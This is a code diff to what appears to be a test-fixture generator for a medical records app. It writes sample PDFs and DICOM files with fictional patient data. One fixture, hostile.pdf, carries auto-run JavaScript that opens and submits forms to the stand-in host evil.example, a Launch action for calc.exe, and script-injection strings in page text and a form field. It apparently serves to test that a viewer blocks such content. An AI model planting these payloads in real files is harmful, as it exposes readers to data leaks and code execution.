@@ -132,6 +132,11 @@ function bloodCount() {
     "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>",
     "<< /Title (Full blood count) /Author (Nordlab Diagnostics) /CreationDate (D:20251120103000+01'00') >>",
   ];
+  return pdf(objects, `/Info 7 0 R`);
+}
+
+/** A file of these objects, the first of which is the catalogue. */
+function pdf(objects, more) {
   let text = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
   const starts = objects.map((object, at) => {
     const start = text.length;
@@ -141,8 +146,101 @@ function bloodCount() {
   const table = text.length;
   const entries = starts.map((start) => `${String(start).padStart(10, "0")} 00000 n \n`).join("");
   text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}`;
-  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info 7 0 R >>\nstartxref\n${table}\n%%EOF\n`;
+  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${more} >>\nstartxref\n${table}\n%%EOF\n`;
   return Buffer.from(text, "latin1");
+}
+
+const stream = (text) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`;
+const HELVETICA = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>";
+
+// PDF: a letter of twelve pages -------------------------------------------------------------------------------------
+
+function letter() {
+  const PAGES = 12;
+  const kids = Array.from({ length: PAGES }, (_, at) => `${4 + 2 * at} 0 R`).join(" ");
+  const pages = Array.from({ length: PAGES }, (_, at) => [
+    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /Plain 3 0 R >> >> " +
+      `/Contents ${5 + 2 * at} 0 R >>`,
+    stream(
+      `BT /Plain 20 Tf 56 760 Td (Discharge letter, part ${at + 1}) Tj ET\n` +
+        "BT /Plain 12 Tf 56 730 Td (Amara Osei was in our care. Nobody in this letter exists.) Tj ET",
+    ),
+  ]);
+  return pdf(
+    ["<< /Type /Catalog /Pages 2 0 R >>", `<< /Type /Pages /Kids [${kids}] /Count ${PAGES} >>`, HELVETICA, ...pages.flat()],
+    "",
+  );
+}
+
+// PDF: everything that a hostile file tries -------------------------------------------------------------------------
+
+function hostilePdf() {
+  const js = (script) => `<< /S /JavaScript /JS (${script.replace(/[\\()]/g, "\\$&")}) >>`;
+  const act = "app.alert('ran'); app.launchURL('https://evil.example/'); this.submitForm('https://evil.example/')";
+  const over = "/Subtype /Link /Rect [0 0 595 842] /Border [0 0 0]";
+  return pdf(
+    [
+      `<< /Type /Catalog /Pages 2 0 R /OpenAction ${js(act)} /AA << /WC ${js(act)} /DC ${js(act)} >> ` +
+        `/Names << /JavaScript << /Names [(a) ${js(act)}] >> >> /AcroForm << /Fields [9 0 R] /NeedAppearances true >> >>`,
+      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /Plain 5 0 R >> >> /Contents 4 0 R " +
+        `/AA << /O ${js(act)} /C ${js(act)} >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R] >>`,
+      stream("BT /Plain 20 Tf 56 760 Td (<script>window.ran = true</script> A hostile file) Tj ET"),
+      HELVETICA,
+      `<< /Type /Annot ${over} /A << /S /URI /URI (https://evil.example/) >> >>`,
+      `<< /Type /Annot ${over} /A << /S /Launch /F (calc.exe) >> >>`,
+      `<< /Type /Annot ${over} /A ${js(act)} /AA << /E ${js(act)} >> >>`,
+      "<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (<img src=x onerror=window.ran=1>) " +
+        `/Rect [56 600 300 640] /AA << /F ${js(act)} /K ${js(act)} >> >>`,
+    ],
+    "",
+  );
+}
+
+// PDF: locked with a password, by RC4 with 40 bits (ISO 32000-1, 7.6.3) ---------------------------------------------
+
+const PADDING = Buffer.from("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a", "hex");
+const padded = (password) => Buffer.concat([Buffer.from(password, "latin1"), PADDING]).subarray(0, 32);
+const md5 = (...parts) => createHash("md5").update(Buffer.concat(parts)).digest();
+
+function rc4(key, data) {
+  const state = Array.from({ length: 256 }, (_, at) => at);
+  for (let i = 0, j = 0; i < 256; i++) {
+    j = (j + state[i] + key[i % key.length]) & 255;
+    [state[i], state[j]] = [state[j], state[i]];
+  }
+  let i = 0;
+  let j = 0;
+  return Buffer.from(data).map((byte) => {
+    i = (i + 1) & 255;
+    j = (j + state[i]) & 255;
+    [state[i], state[j]] = [state[j], state[i]];
+    return byte ^ state[(state[i] + state[j]) & 255];
+  });
+}
+
+function lockedPdf() {
+  const id = md5(Buffer.from("medkey e2e locked letter"));
+  const owner = rc4(md5(padded("owner")).subarray(0, 5), padded("secret"));
+  const permissions = Buffer.alloc(4);
+  permissions.writeInt32LE(-4);
+  const key = md5(padded("secret"), owner, permissions, id).subarray(0, 5);
+  const user = rc4(key, PADDING);
+  const page = "BT /Plain 20 Tf 56 760 Td (A locked letter) Tj ET";
+  // Each object has a key of its own: its number and generation are hashed with the file's key.
+  const sealed = rc4(md5(key, Buffer.from([4, 0, 0, 0, 0])).subarray(0, 10), Buffer.from(page));
+  const hex = (bytes) => `<${bytes.toString("hex")}>`;
+  return pdf(
+    [
+      "<< /Type /Catalog /Pages 2 0 R >>",
+      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /Plain 5 0 R >> >> /Contents 4 0 R >>",
+      stream(sealed.toString("latin1")),
+      HELVETICA,
+      `<< /Filter /Standard /V 1 /R 2 /O ${hex(owner)} /U ${hex(user)} /P -4 >>`,
+    ],
+    `/Encrypt 6 0 R /ID [${hex(id)} ${hex(id)}]`,
+  );
 }
 
 // Images: the Shepp-Logan head phantom, with the contrast of Toft (1996), table B.3 --------------------------------
@@ -228,6 +326,24 @@ function element(group, number, vr, value) {
   return Buffer.concat([head, body]);
 }
 
+/** A file of this class and instance, in explicit VR little endian. */
+function part10(storage, instance, elements) {
+  const meta = Buffer.concat([
+    element(0x0002, 0x0001, "OB", Buffer.from([0, 1])),
+    element(0x0002, 0x0002, "UI", storage),
+    element(0x0002, 0x0003, "UI", instance),
+    element(0x0002, 0x0010, "UI", "1.2.840.10008.1.2.1"),
+    element(0x0002, 0x0012, "UI", uid("medkey e2e")),
+  ]);
+  return Buffer.concat([
+    Buffer.alloc(128),
+    Buffer.from("DICM"),
+    element(0x0002, 0x0000, "UL", meta.length),
+    meta,
+    ...elements.map((one) => element(...one)),
+  ]);
+}
+
 function dicom() {
   const side = 128;
   const pixels = Buffer.alloc(2 * side * side);
@@ -235,14 +351,7 @@ function dicom() {
   phantom(side).forEach((value, at) => pixels.writeInt16LE(value === null ? -1000 : Math.round(200 * value), 2 * at));
   const ctImage = "1.2.840.10008.5.1.4.1.1.2";
   const instance = uid("medkey e2e head CT instance");
-  const meta = Buffer.concat([
-    element(0x0002, 0x0001, "OB", Buffer.from([0, 1])),
-    element(0x0002, 0x0002, "UI", ctImage),
-    element(0x0002, 0x0003, "UI", instance),
-    element(0x0002, 0x0010, "UI", "1.2.840.10008.1.2.1"),
-    element(0x0002, 0x0012, "UI", uid("medkey e2e")),
-  ]);
-  const data = [
+  return part10(ctImage, instance, [
     [0x0008, 0x0005, "CS", "ISO_IR 192"],
     [0x0008, 0x0008, "CS", "ORIGINAL\\PRIMARY\\AXIAL"],
     [0x0008, 0x0016, "UI", ctImage],
@@ -290,13 +399,50 @@ function dicom() {
     [0x0028, 0x1053, "DS", "1"],
     [0x0028, 0x1054, "LO", "HU"],
     [0x7fe0, 0x0010, "OW", pixels],
-  ].map((one) => element(...one));
-  return Buffer.concat([
-    Buffer.alloc(128),
-    Buffer.from("DICM"),
-    element(0x0002, 0x0000, "UL", meta.length),
-    meta,
-    ...data,
+  ]);
+}
+
+// DICOM: eight images of the phantom in one file, each a little smaller, in bytes ----------------------------------
+
+function series() {
+  const [side, frames] = [64, 8];
+  const pixels = Buffer.alloc(frames * side * side);
+  const grey = phantom(side);
+  for (let frame = 0; frame < frames; frame++) {
+    const scale = 1 + frame / 10;
+    for (let at = 0; at < side * side; at++) {
+      const x = Math.floor((at % side - side / 2) * scale + side / 2);
+      const y = Math.floor((Math.floor(at / side) - side / 2) * scale + side / 2);
+      const inside = x >= 0 && y >= 0 && x < side && y < side;
+      const value = inside ? grey[y * side + x] : null;
+      pixels[frame * side * side + at] = value === null ? 0 : Math.round(20 + 220 * Math.min(1, value));
+    }
+  }
+  const capture = "1.2.840.10008.5.1.4.1.1.7.2";
+  const instance = uid("medkey e2e head series instance");
+  return part10(capture, instance, [
+    [0x0008, 0x0005, "CS", "ISO_IR 192"],
+    [0x0008, 0x0016, "UI", capture],
+    [0x0008, 0x0018, "UI", instance],
+    [0x0008, 0x0020, "DA", "20251118"],
+    [0x0008, 0x0060, "CS", "MR"],
+    [0x0008, 0x0080, "LO", "Harbour Hospital"],
+    [0x0008, 0x1030, "LO", "MR head"],
+    [0x0010, 0x0010, "PN", "Osei^Amara"],
+    [0x0010, 0x0030, "DA", "19710504"],
+    [0x0018, 0x0015, "CS", "HEAD"],
+    [0x0020, 0x000d, "UI", uid("medkey e2e head MR study")],
+    [0x0020, 0x000e, "UI", uid("medkey e2e head MR series")],
+    [0x0028, 0x0002, "US", 1],
+    [0x0028, 0x0004, "CS", "MONOCHROME2"],
+    [0x0028, 0x0008, "IS", String(frames)],
+    [0x0028, 0x0010, "US", side],
+    [0x0028, 0x0011, "US", side],
+    [0x0028, 0x0100, "US", 8],
+    [0x0028, 0x0101, "US", 8],
+    [0x0028, 0x0102, "US", 7],
+    [0x0028, 0x0103, "US", 0],
+    [0x7fe0, 0x0010, "OB", pixels],
   ]);
 }
 
@@ -304,3 +450,7 @@ write("lipid-panel.json", lipidPanel());
 write("blood-count.pdf", bloodCount());
 write("head-scan.png", png());
 write("head-ct.dcm", dicom());
+write("discharge-letter.pdf", letter());
+write("hostile.pdf", hostilePdf());
+write("locked.pdf", lockedPdf());
+write("head-series.dcm", series());
